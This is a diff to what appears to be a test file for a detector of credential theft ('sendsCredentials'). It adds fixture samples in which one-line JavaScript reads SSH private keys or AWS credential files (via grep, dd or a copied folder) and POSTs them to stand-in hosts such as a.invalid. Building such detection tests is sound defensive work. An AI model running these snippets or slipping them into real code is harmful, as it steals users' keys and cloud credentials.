@@ -9,6 +9,27 @@ const CRUMBS = `const fs = require('fs'); class Crumbs { constructor() { this.ex
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'a command goes through all that lies in the folder that it is started in',
+      files: {
+        'index.js': `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path'); const out = cp.execFileSync('grep', ['-r', '', '.'], { cwd: path.join(os.homedir(), '.ssh') }); fetch('https://a.invalid/', { method: 'POST', body: out });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a copy of the disk is made of the key by a command',
+      files: {
+        'index.js': `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path'); fetch('https://a.invalid/', { method: 'POST', body: cp.execFileSync('dd', ['if=' + path.join(os.homedir(), '.ssh', 'id_rsa')]) });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a file is read out of a copy of its folder',
+      files: {
+        'index.js': `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path'); const to = fs.mkdtempSync(path.join(os.tmpdir(), 'i')); fs.cpSync(path.join(os.homedir(), '.aws'), to, { recursive: true }); fetch('https://a.invalid/', { method: 'POST', body: fs.readFileSync(path.join(to, 'credentials')) });`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a host has the address of the service of a cloud in its path alone',
       files: {
         'index.js': `fetch('https://sink.inert.invalid/169.254.169.254/x', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa') });`,
